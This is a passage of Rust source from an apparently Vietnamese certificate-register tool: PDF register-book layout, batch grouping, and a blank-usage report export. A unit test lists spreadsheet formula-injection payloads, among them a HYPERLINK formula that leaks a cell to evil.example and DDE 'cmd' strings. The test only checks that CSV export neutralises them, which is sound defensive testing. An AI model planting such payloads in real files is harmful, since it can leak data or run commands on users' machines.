        let footer = crate::book!("book-page", page = pi + 1, pages = total);
        place(&mut items, book_el(&fonts, r, Style::Italic, BOOK_SIZE, Align::Center), &footer, "footer")?;

        for (block, y) in blocks {
            let y = *y;
            match *block {
                Block::Heading { batch, continued } => {
                    let mut ly = y;
                    for (f, style) in heading_lines(batch, continued) {
                        let h = f.lines as f32 * f.size * BOOK_LINE + 0.5;
                        let r = RectPt { x: MARGIN, y: ly, w: width, h };
                        place(
                            &mut items,
                            book_el(&fonts, r, style, f.size, Align::Left),
                            &f.text,
                            "heading",
                        )?;
                        ly += h - 0.5;
                    }
                }
                Block::TableHead => {
                    items.push(line((MARGIN, y), (MARGIN + width, y)));
                    table_row(&mut items, y, head_h, &head, Style::Bold, "header")?;
                }
                Block::Row(r) => {
                    let what = book.rows[r].get(4).cloned().unwrap_or_default();
                    table_row(&mut items, y, fitted_height(&cells[r]), &cells[r], Style::Regular, &what)?;
                }
                Block::Closing => {
                    let c = &book.closing;
                    let h = summary.lines as f32 * BOOK_SIZE * BOOK_LINE + 0.5;
                    let r = RectPt { x: MARGIN, y: y + 4.0, w: width, h };
                    place(
                        &mut items,
                        book_el(&fonts, r, Style::Regular, summary.size, Align::Left),
                        &summary.text,
                        "closing",
                    )?;
                    let top = y + 4.0 + h + 8.0;
                    // Left: whoever kept the book; right: the head of the body, who signs and seals.
                    let left = RectPt { x: MARGIN, y: top + 16.0, w: 300.0, h: 16.0 };
                    place(
                        &mut items,
                        book_el(&fonts, left, Style::Bold, 11.0, Align::Center),
                        &crate::book!("book-keeper"),
                        "closing",
                    )?;
                    let r = RectPt { y: left.y + 16.0, ..left };
                    place(
                        &mut items,
                        book_el(&fonts, r, Style::Italic, BOOK_SIZE, Align::Center),
                        &crate::book!("book-sign"),
                        "closing",
                    )?;
                    let right = RectPt { x: PAGE.0 - MARGIN - 360.0, y: top, w: 360.0, h: 16.0 };
                    place(
                        &mut items,
                        book_el(&fonts, right, Style::Italic, 11.0, Align::Center),
                        &c.place_date,
                        "closing",
                    )?;
                    let mut ry = top + 16.0;
                    for t in &c.titles {
                        let r = RectPt { y: ry, ..right };
                        place(
                            &mut items,
                            book_el(&fonts, r, Style::Bold, 11.0, Align::Center),
                            t,
                            "closing",
                        )?;
                        ry += 16.0;
                    }
                    let r = RectPt { y: ry, ..right };
                    let hint = &crate::book!("book-sign-seal");
                    place(
                        &mut items,
                        book_el(&fonts, r, Style::Italic, BOOK_SIZE, Align::Center),
                        hint,
                        "closing",
                    )?;
                    let r = RectPt { y: ry + 16.0 + 70.0, ..right };
                    place(
                        &mut items,
                        book_el(&fonts, r, Style::Bold, 11.0, Align::Center),
                        &c.name,
                        "closing",
                    )?;
                }
            }
        }
        out.push(PageLayout {
            size_pt: PAGE,
            items,
            shrunk: Vec::new(),
            background: false,
            offset_pt: (0.0, 0.0),
        });
    }
    let meta = PdfMeta {
        title: crate::book!("book-pdf-title"),
        author: (!book.issuer.1.is_empty()).then(|| book.issuer.1.clone()),
        subject: Some(crate::book!("book-entries", n = book.rows.len())),
        date,
        keywords: Vec::new(),
    };
    let res = Resources::with_fonts(&fonts)?;
    Ok(pdf::write(out, &meta, &res)?)
}

/// Dots to fill in by hand, where the register does not know a word.
const BLANK_LINE: &str = "……………………………………";

/// Gathers the book: the rows grouped by batch (in the order the batches were registered,
/// each batch's rows in the export's order), numbered again in that order; the closing block
/// from the last batch's variables and `today`, the day the book is printed.
fn book_of<'a>(
    rows: &[&CertRow],
    all: &[CertRow],
    blanks_of: &BTreeMap<i64, Vec<&BlankRow>>,
    batch_vars: &[(String, String)],
    today: Date,
) -> Book<'a> {
    let on_blanks = rows.iter().any(|r| blanks_of.get(&r.id).is_some_and(|b| b.iter().any(|b| b.used)));
    let columns: &'a [BookColumn] = if on_blanks { &BOOK_COLUMNS_BLANKS } else { &BOOK_COLUMNS };
    let mut batches: Vec<BookBatch> = batch_vars
        .iter()
        .filter(|(name, _)| rows.iter().any(|r| r.batch == *name))
        .map(|(name, vars)| BookBatch {
            name: name.clone(),
            vars: crate::util::json::string_map(vars).unwrap_or_default(),
            rows: Vec::new(),
        })
        .collect();
    let mut ordered: Vec<&CertRow> = Vec::with_capacity(rows.len());
    for b in batches.iter_mut() {
        for r in rows.iter().filter(|r| r.batch == b.name) {
            b.rows.push(ordered.len());
            ordered.push(r);
        }
    }
    let mut table = Vec::with_capacity(ordered.len());
    for (i, r) in ordered.iter().enumerate() {
        let blanks = blanks_of.get(&r.id).map(Vec::as_slice).unwrap_or(&[]);
        let used = blanks.iter().find(|b| b.used).map(|b| b.serial.clone());
        let mut row = vec![
            (i + 1).to_string(),
            r.ho_ten.clone(),
            r.ngay_sinh.clone(),
            record_value(r, fields::NOI_SINH),
            r.so_hieu.clone(),
            r.so_vao_so.clone().unwrap_or_default(),
            dmy(&r.issue_date),
            r.status.name_vi(),
        ];
        if on_blanks {
            row.push(used.unwrap_or_default());
        }
        // The blank a certificate is printed on has its column: the note keeps only what is
        // particular to the entry.
        let note_blanks: Vec<&BlankRow> = blanks.iter().copied().filter(|b| !(on_blanks && b.used)).collect();
        row.push(note_text(r, all, &note_blanks));
        row.push(String::new());
        table.push(row);
    }
    let issuer = batches
        .iter()
        .find(|b| !b.var("co_quan").is_empty())
        .map(|b| (b.var("co_quan_chu_quan").to_string(), b.var("co_quan").to_string()))
        .unwrap_or_default();
    let count = |s: Status| ordered.iter().filter(|r| r.status == s).count();
    let issued = ordered.len() - count(Status::Spoiled);
    let mut summary =
        crate::book!("book-total", n = issued, words = crate::viet::number_in_words(issued as u64));
    let details: Vec<String> =
        [(Status::Revoked, "book-revoked-count"), (Status::Reissued, "book-reissued-count")]
            .iter()
            .filter(|(s, _)| count(*s) > 0)
            .map(|(s, id)| crate::l10n::book(id, &[("n", count(*s).into())]))
            .collect();
    if !details.is_empty() {
        summary.push_str(&format!(" {}", crate::book!("book-of-which", details = details.join(", "))));
    }
    if count(Status::Spoiled) > 0 {
        summary.push_str(&format!(" {}", crate::book!("book-spoiled-count", n = count(Status::Spoiled))));
    }
    let last = batches.last();
    let var = |k: &str| last.map(|b| b.var(k).to_string()).unwrap_or_default();
    let place = var("dia_danh");
    let place_date = format!("{}, {}", if place.is_empty() { "………………" } else { &place }, today.long_form());
    let mut titles: Vec<String> =
        ["quyen_han", "chuc_danh_ky"].iter().map(|k| var(k)).filter(|v| !v.is_empty()).collect();
    if titles.is_empty() {
        titles.push(match var("nguoi_cap") {
            t if t.is_empty() => BLANK_LINE.to_string(),
            t => t,
        });
    }
    let name = match var("nguoi_ky") {
        n if n.is_empty() => BLANK_LINE.to_string(),
        n => n,
    };
    let issue_dates = ordered.iter().map(|r| r.issue_date.clone()).collect();
    Book {
        columns,
        batches,
        rows: table,
        issue_dates,
        issuer,
        closing: Closing { summary, place_date, titles, name },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_shown_as_text() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let bytes = csv_bytes(&["a".to_string()], &[vec![payload.to_string()]]);
            let mut r = csv::Reader::from_reader(&bytes[3..]);
            let cell = r.records().next().unwrap().unwrap()[0].to_string();
            assert_eq!(cell, format!("'{payload}"), "{payload:?}");
        }
        for plain in ["Nguyễn Văn An", "CNKT19-0042", "12/2019", "'already quoted"] {
            assert_eq!(neutralise(plain), plain);
        }
    }
}

// ---- The blank-usage report ------------------------------------------------------------------

/// The columns of the blank-usage report.
const BLANK_HEADERS: [&str; 9] = [
    "book-col-stt",
    "book-col-batch",
    "book-col-blank",
    "book-col-status",
    "book-col-serial",
    "book-col-name",
    "book-col-printed-on",
    "book-col-spoiled-on",
    "book-col-spoil-reason",
];
const BLANK_WIDTHS: [f64; 9] = [6.0, 20.0, 14.0, 12.0, 16.0, 28.0, 12.0, 12.0, 36.0];
const BLANK_COLUMNS: [(usize, f32, Align); 9] = [
    (0, 30.0, Align::Center),
    (1, 100.0, Align::Left),
    (2, 78.0, Align::Center),
    (3, 58.0, Align::Center),
    (4, 82.0, Align::Center),
    (5, 130.0, Align::Left),
    (6, 60.0, Align::Center),
    (7, 60.0, Align::Center),
    (8, 171.89, Align::Left),
];
const BLANKS_REPORT: PrintedTable = PrintedTable {
    title: "book-blanks-title",
    pdf_title: "book-blanks-pdf-title",
    columns: &BLANK_COLUMNS,
    headers: &BLANK_HEADERS,
};

/// What a blank-usage report holds: its rows, and per batch how many blanks were used and
/// spoiled (blanks spoiled before anything was printed on them count under no batch).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BlankTotals {
    /// `(batch, used, spoiled)`, in the report's order.
    pub batches: Vec<(String, usize, usize)>,
}

/// Writes the blank-usage report (every pre-printed blank: used for which certificate, or
/// spoiled on which day and why; totals per batch) to `out`, `.csv`, `.xlsx` or `.pdf` — what an
/// office files with its report on destroyed blanks.
pub fn export_blanks(reg: &Register, out: &Path, batch: Option<&str>) -> Result<BlankTotals, ExportError> {
    let ext = out.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase).unwrap_or_default();
    let blanks = reg.blanks(batch)?;
    let mut totals = BlankTotals::default();
    let mut table = Vec::with_capacity(blanks.len());
    for (i, b) in blanks.iter().enumerate() {
        let batch = b.batch.clone().unwrap_or_default();
        if totals.batches.last().is_none_or(|(name, _, _)| *name != batch) {
            totals.batches.push((batch.clone(), 0, 0));
        }
        let t = totals.batches.last_mut().expect("just pushed");
        if b.used {
            t.1 += 1;
        } else {
            t.2 += 1;
        }
        let (serial, name) =
            b.certificate.as_ref().map(|(_, s, n)| (s.clone(), n.clone())).unwrap_or_default();
        let (spoiled_on, reason) = b.spoiled.clone().unwrap_or_default();
        table.push(vec![
            (i + 1).to_string(),
            batch,
            b.serial.clone(),
            if b.used { crate::book!("book-blank-used") } else { crate::book!("book-blank-spoiled") },
            serial,
            name,
            b.used_on.as_deref().map(dmy).unwrap_or_default(),
            if spoiled_on.is_empty() { String::new() } else { dmy(&spoiled_on) },
            reason,
        ]);
    }
    let last = blanks
        .iter()
        .flat_map(|b| [b.used_on.clone(), b.spoiled.as_ref().map(|s| s.0.clone())])
        .flatten()
        .filter_map(|d| Date::parse_iso(&d).ok())
        .max()
        .unwrap_or(Date { year: 2000, month: 1, day: 1 });
    let summary: Vec<String> = totals
        .batches
        .iter()
        .map(|(name, used, spoiled)| {
            let name = if name.is_empty() {
                crate::book!("book-blanks-unused")
            } else {
                crate::book!("book-blanks-batch", batch = name.as_str())
            };
            crate::book!(
                "book-blanks-count",
                name = name,
                used = *used,
                spoiled = *spoiled,
                total = used + spoiled
            )
        })
        .collect();
    let bytes = match ext.as_str() {
        "csv" => csv_bytes(&worded(&BLANK_HEADERS), &table),
        "xlsx" => xlsx(&worded(&BLANK_HEADERS), &BLANK_WIDTHS, &BLANK_KINDS, "Phoi", &table, out, last)?,
        "pdf" => table_pdf(&BLANKS_REPORT, &table, &issuer_of(reg)?, last, &summary)?,
        _ => return Err(ExportError::Format(out.to_path_buf())),
    };
    if let Some(dir) = out.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)
            .map_err(|e| crate::error::IoError::new("cannot create folder", dir, e))?;
    }
    crate::util::files::write_atomic(out, &bytes)?;
    Ok(totals)
}
